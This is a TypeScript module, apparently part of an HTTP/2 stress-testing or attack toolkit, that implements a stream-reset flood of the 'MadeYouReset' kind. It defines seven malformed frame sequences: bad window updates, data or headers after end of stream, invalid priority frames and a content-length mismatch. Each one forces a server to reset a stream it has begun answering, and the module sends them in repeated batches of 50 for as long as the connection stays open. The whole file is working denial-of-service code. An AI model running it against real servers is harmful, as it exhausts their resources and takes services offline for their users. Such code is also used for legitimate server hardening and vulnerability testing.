import type { Attacker } from '../lib/attacker.ts'
import {
  encodeFields,
  encodeFrame,
  END_HEADERS,
  END_STREAM,
  getting,
  mostWindow,
  posting,
  Type,
  windowUpdate,
  word,
} from '../lib/frames.ts'
import { paths } from '../lib/paths.ts'

const batch = 50

/** What makes a server reset a stream whose request it has begun to answer. */
const mistakes = {
  'window-zero': (id: number) => Buffer.concat([getting(id, paths.large), windowUpdate(id, 0)]),
  'window-overflow': (id: number) =>
    Buffer.concat([getting(id, paths.large), windowUpdate(id, mostWindow)]),
  'data-behind-the-end': (id: number) =>
    Buffer.concat([getting(id, paths.large), encodeFrame(Type.DATA, 0, id, Buffer.from('x'))]),
  'headers-behind-the-end': (id: number) =>
    Buffer.concat([
      getting(id, paths.large),
      encodeFrame(Type.HEADERS, END_HEADERS | END_STREAM, id, encodeFields([['a', 'b']])),
    ]),
  'priority-length': (id: number) =>
    Buffer.concat([getting(id, paths.large), encodeFrame(Type.PRIORITY, 0, id, Buffer.alloc(4))]),
  'priority-of-itself': (id: number) =>
    Buffer.concat([
      getting(id, paths.large),
      encodeFrame(Type.PRIORITY, 0, id, Buffer.concat([word(id), Buffer.of(1)])),
    ]),
  'content-length': (id: number) =>
    Buffer.concat([
      posting(id, paths.upload, [['content-length', '1']]),
      encodeFrame(Type.DATA, 0, id, Buffer.from('xx')),
    ]),
} as const

export type Mistake = keyof typeof mistakes

/** Requests, each followed by a mistake that is the server's to answer with RST_STREAM. */
export function madeYouReset(mistake: Mistake): (attacker: Attacker) => Promise<void> {
  return (attacker) =>
    attacker.http2(async (connection) => {
      while (connection.isOpen) {
        const make = (): Buffer => mistakes[mistake](connection.nextStream())
        await connection.send(Buffer.concat(Array.from({ length: batch }, make)), batch)
      }
    })
}
